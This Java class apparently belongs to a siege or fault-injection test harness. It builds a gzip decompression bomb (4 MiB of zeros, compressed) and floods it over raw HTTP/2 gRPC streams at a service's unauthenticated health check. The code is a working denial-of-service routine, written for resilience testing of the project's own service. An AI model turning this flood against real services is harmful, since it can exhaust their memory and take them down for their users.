package dev.entente.faults.siege.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.util.List;
import java.util.zip.GZIPOutputStream;

/** Messages that are large once unpacked; to the health check, which needs no token. */
final class Bombs {
    private static final int BOMB_BYTES = 4 << 20;
    private static final int PREFIX_BYTES = 5;

    private Bombs() {}

    static List<Attack> all() {
        return List.of(Attack.plain("gzip-bombs", Bombs::unpack));
    }

    private static void unpack(Front front, Raid raid) throws InterruptedException {
        byte[] bomb = bomb();
        Together.of(2, raid, number -> {
            while (raid.goesOn()) {
                try (RawHttp2 connection = RawHttp2.connect(number, front.grpcPort())) {
                    for (int stream = 1; raid.goesOn() && !connection.isClosed(); stream += 2) {
                        raid.tried();
                        connection.write(RawHttp2.call(stream));
                        connection.write(RawHttp2.frame(RawHttp2.DATA, RawHttp2.END_STREAM, stream, bomb));
                        Thread.sleep(5);
                    }
                } catch (IOException refused) {
                    Thread.sleep(50);
                }
            }
        });
    }

    private static byte[] bomb() {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
            gzip.write(new byte[BOMB_BYTES]);
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return ByteBuffer.allocate(PREFIX_BYTES + packed.size())
                .put((byte) 1)
                .putInt(packed.size())
                .put(packed.toByteArray())
                .array();
    }
}
